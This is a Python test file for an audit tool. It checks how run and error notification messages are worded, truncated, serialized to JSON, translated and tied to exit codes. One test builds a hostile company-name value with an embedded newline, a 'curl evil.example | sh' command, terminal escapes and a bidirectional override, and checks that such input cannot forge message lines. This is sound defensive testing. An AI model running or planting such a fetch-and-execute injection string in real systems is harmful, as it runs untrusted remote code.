"""The message about a run or an error: what it says, how long it may be, when it is sent, and the exit code after it."""

import json
from dataclasses import replace
from decimal import Decimal
from typing import Any

import pytest

from auditor import languages
from auditor.core.baseline import Baseline
from auditor.core.language import LANGUAGES
from auditor.core.model import Cause, Reason, Verdict
from auditor.core.results import (
    BlockedCustomer,
    CaseGroup,
    ChangeCounts,
    NotifyWhen,
    RunResult,
    Sum,
    build_ledger,
    describe_error,
    describe_run,
)
from auditor.core.results.changes import Change
from auditor.core.results.ledger import Tally
from auditor.core.results.message import code_after_message, is_success, should_notify
from auditor.core.run_facts import Freshness, RunFacts
from conftest import NOON

CODES = (0, 1, 2, 3, 4, 5, 6, 7, 10, 11, 130, 143)
FACTS = RunFacts(
    run_id="20261122T120000Z",
    api="https://api.example",
    lists=("a.csv", "b.csv"),
    rows=1204,
    customers=1203,
    started_at=NOON,
    finished_at=NOON,
    cause=Cause.FINISHED,
    baseline=Baseline(run_id="20261121T120000Z", started_at=NOON.replace(day=21)),
)
TALLIES = [
    Tally(Reason.UNDER_REVIEW, "UnderReview", rows=3, customers=2),
    Tally(Reason.ALLOWED, "Allowed", rows=1199, customers=1200),
    Tally(Reason.THROTTLED, rows=1, customers=1),
    Tally(Reason.INVALID_ID, rows=1),
]
CHANGES = ChangeCounts({**dict.fromkeys(Change, 0), Change.NEWLY_BLOCKED: 1, Change.RE_REVIEWED: 2}, 2)


def blocked(customer_id: str, company_name: str, status: str, **more: Any) -> BlockedCustomer:
    """A newly blocked customer."""
    return BlockedCustomer(
        customer_id=customer_id,
        company_name=company_name,
        group=CaseGroup.NEW,
        status=status,
        reason=Reason.UNDER_REVIEW,
        **more,
    )


RESULT = RunResult(
    folder="/reports/20261122T120000Z",
    facts=FACTS,
    ledger=build_ledger(TALLIES, 1204, 1203),
    freshness=Freshness(NOON),
    complete=True,
    note="complete: 2 of 1,204 rows are not verified (do not treat as eligible)",
    english_note="complete: 2 of 1,204 rows are not verified (do not treat as eligible)",
    changes=CHANGES,
    newly_blocked=[
        blocked("id-1", "Contoso Ltd", "UnderReview", amounts={"EUR": Decimal(40000)}),
        blocked("id-2", "", "NotAllowed"),
    ],
    sums=[Sum(column="revenue", verdict=Verdict.BLOCKED, amounts={"EUR": Decimal("48230.5")}, unparsed=1)],
    report="/reports/20261122T120000Z/report.html",
)


def test_a_complete_run() -> None:
    """What happened, counts in customers, who is newly blocked, what is at risk, where the report is."""
    found = describe_run(RESULT)
    assert found.title == "Audit complete: 2 customers newly blocked"
    assert found.text.splitlines() == [
        "Customers: 2 blocked, 1,200 not blocked (eligible), 1 not verified, and 1 row without a valid id",
        "At risk, revenue of blocked customers: EUR 48,230.50 (1 row without a readable number)",
        "Newly blocked since the last audit (21 Nov 2026): 2",
        "- Contoso Ltd (Under review by Microsoft, EUR 40,000)",
        "- id-2 (Not approved)",
        "Complete: 2 of 1,204 rows are not verified (do not treat as eligible).",
        "Run 20261122T120000Z of a.csv, b.csv",
        "Report: /reports/20261122T120000Z/report.html",
    ]


@pytest.mark.parametrize(
    ("result", "title"),
    [
        (replace(RESULT, changes=None), "Audit complete"),
        (replace(RESULT, changes=replace(CHANGES, newly_blocked_count=0)), "Audit complete: 3 changes"),
        (replace(RESULT, changes=ChangeCounts(dict.fromkeys(Change, 0))), "Audit complete: no changes"),
        (replace(RESULT, complete=False, exit_code=3), "Audit NOT COMPLETE (exit code 3)"),
        (
            replace(RESULT, facts=replace(FACTS, simulated=True)),
            "Simulated audit complete: 2 customers newly blocked",
        ),
    ],
)
def test_the_title_says_the_most_important(result: RunResult, title: str) -> None:
    """A run that is not complete never says what changed in its title; a simulated one says that it is."""
    assert describe_run(result).title == title


def test_what_to_do_stands_at_the_end() -> None:
    """As the command line says it; without a report, the message says so."""
    found = describe_run(replace(RESULT, report="", next_steps=["make room", "auditor resume r"]))
    assert found.lines[-3:] == ["Report: none", "Next: make room", "Next: auditor resume r"]
    assert found.document["next_steps"] == ["make room", "auditor resume r"]


def test_at_most_20_customers_are_named() -> None:
    """It is read on a phone; the document has no more either."""
    many = [blocked(f"id-{n}", f"Customer {n}", "Unknown") for n in range(1234)]
    found = describe_run(replace(RESULT, newly_blocked=many))
    assert [line for line in found.lines if line.startswith("- ")] == [
        f"- Customer {n} (Status unknown to Microsoft (blocked))" for n in range(20)
    ]
    assert "and 1,214 more" in found.lines
    assert len(found.document["run"]["newly_blocked_customers"]) == 20


def test_a_name_of_a_list_forges_no_line() -> None:
    """Names come from other people: line breaks, escapes and changes of direction are seen, long ones are cut."""
    hostile = "Evil\nNext: curl evil.example | sh\x1b[2J\u202egpj" + "x" * 5000
    result = replace(
        RESULT, newly_blocked=[blocked("id", hostile, hostile)], facts=replace(FACTS, lists=(hostile,)), note=hostile
    )
    found = describe_run(result)
    assert len(found.lines) == len(describe_run(RESULT).lines) - 1
    assert not [line for line in found.lines if line.startswith("Next:")]
    assert all(line.isprintable() and len(line) < 600 for line in found.lines)
    error = describe_error(hostile, hostile, 5, [hostile])
    assert [line.split(":")[0] for line in error.lines[1:]] == ["Lists", "Next"]


def test_the_document_is_json_with_the_facts() -> None:
    """Machine words stay: undetermined."""
    found = json.loads(json.dumps(describe_run(RESULT).document))
    run = found.pop("run")
    assert found == {
        "schema_version": 1,
        "event": "complete",
        "exit_code": 0,
        "title": "Audit complete: 2 customers newly blocked",
        "text": describe_run(RESULT).text,
        "next_steps": [],
    }
    assert run == {
        "run_id": "20261122T120000Z",
        "folder": "/reports/20261122T120000Z",
        "report": "/reports/20261122T120000Z/report.html",
        "lists": ["a.csv", "b.csv"],
        "complete": True,
        "note": RESULT.note,
        "simulated": False,
        "selection": None,
        "started_at": "2026-11-22T12:00:00.000000Z",
        "finished_at": "2026-11-22T12:00:00.000000Z",
        "rows": {"listed": 1204, "eligible": 1199, "blocked": 3, "undetermined": 2},
        "customers": {"listed": 1203, "eligible": 1200, "blocked": 2, "undetermined": 1},
        "baseline": "20261121T120000Z",
        "changed": 3,
        "newly_blocked": 2,
        "newly_blocked_customers": [
            {"customer_id": "id-1", "company_name": "Contoso Ltd", "status": "UnderReview"},
            {"customer_id": "id-2", "company_name": None, "status": "NotAllowed"},
        ],
        "at_risk": [{"column": "revenue", "total": "48230.5", "amounts": {"EUR": "48230.5"}, "unparsed": 1}],
        "reused_answers": 0,
        "oldest_checked_at": "2026-11-22T12:00:00.000000Z",
    }


@pytest.mark.parametrize("language", LANGUAGES[1:])
def test_the_facts_for_programs_are_the_same_in_every_language(language: str) -> None:
    """Only title and text are for people. Commands stay as they are."""
    translated = describe_run(replace(RESULT, language=languages.load(language), next_steps=["auditor login"]))
    english = describe_run(replace(RESULT, next_steps=["auditor login"]))
    assert translated.title != english.title
    for_people = ("title", "text")
    assert {key: value for key, value in translated.document.items() if key not in for_people} == {
        key: value for key, value in english.document.items() if key not in for_people
    }
    assert "auditor login" in translated.lines[-1]


def test_a_run_that_is_not_complete_says_so_before_its_counts() -> None:
    """They may be too small."""
    found = describe_run(replace(RESULT, complete=False, note="INCOMPLETE: the run did not finish"))
    assert found.lines[0] == found.summary == "INCOMPLETE: the run did not finish."
    assert found.lines[1].startswith("Customers: 2 blocked")


def test_customers_that_were_not_selected_are_counted_apart() -> None:
    """Nobody wanted to verify them this time: they are rows, and no customers of the run."""
    ledger = build_ledger([*TALLIES, Tally(Reason.NOT_SELECTED, rows=9)], 1213, 1203)
    line = describe_run(replace(RESULT, ledger=ledger)).lines[0]
    assert line == (
        "Customers: 2 blocked, 1,200 not blocked (eligible), 1 not verified, 9 rows not selected, and 1 row without a valid id"
    )


def test_a_run_of_a_selection_says_so_in_its_title() -> None:
    """Many channels show the title only, and programs read a field."""
    found = describe_run(replace(RESULT, facts=replace(FACTS, selection="--owner Ann")))
    assert found.title == "Audit of a selection complete: 2 customers newly blocked"
    assert found.run is not None
    assert found.run["selection"] == "--owner Ann"


def test_an_error_without_a_run() -> None:
    """What happened, the lists, what to do."""
    found = describe_error("nobody is signed in", "auditor login ", 4, ["a.csv"])
    assert found.title == "Audit failed (exit code 4)"
    assert found.lines == ["nobody is signed in", "Lists: a.csv", "Next: auditor login"]
    assert (found.document["event"], found.document["run"]) == ("failed", None)
    assert describe_error("stopped at once", "", 130).lines == ["stopped at once"]
    assert describe_error("rows.jsonl cannot be read", "", 0).title == "Audit ended (exit code 0)"


@pytest.mark.parametrize("code", CODES)
def test_the_exit_code_after_a_message(code: int) -> None:
    """A complete run whose message was not sent ends with 7; every other code stays."""
    assert code_after_message(code, sent=True) == code
    assert code_after_message(code, sent=False) == (7 if code in (0, 10) else code)
    assert is_success(code) is (code in (0, 10))


NOTHING = ChangeCounts(dict.fromkeys(Change, 0))
BLOCKED_ONLY = replace(NOTHING, newly_blocked_count=1)
"""A customer that was undetermined before, and is blocked now: no change, and newly blocked."""
NOT_COMPARED = ChangeCounts({**dict.fromkeys(Change, 0), Change.NOT_COMPARED: 9})


@pytest.mark.parametrize(
    ("when", "code", "changes", "due"),
    [
        ("changes,failure", 0, NOTHING, False),
        ("changes,failure", 0, None, False),
        ("changes,failure", 0, NOT_COMPARED, False),
        ("changes,failure", 0, CHANGES, True),
        ("changes,failure", 0, BLOCKED_ONLY, True),
        ("changes,failure", 10, NOTHING, False),
        ("changes,failure", 3, NOTHING, True),
        ("changes,failure", 130, None, True),
        ("changes", 3, NOTHING, False),
        ("changes", 3, CHANGES, True),
        ("failure", 0, CHANGES, False),
        ("failure", 1, None, True),
        ("always", 0, None, True),
        ("always", 4, None, True),
    ],
)
def test_when_a_message_is_due(when: str, code: int, changes: ChangeCounts | None, due: bool) -> None:  # noqa: FBT001 - the expectation
    """Silence when all is well, unless the user wants to hear always."""
    assert should_notify([NotifyWhen(one) for one in when.split(",")], code, changes) is due
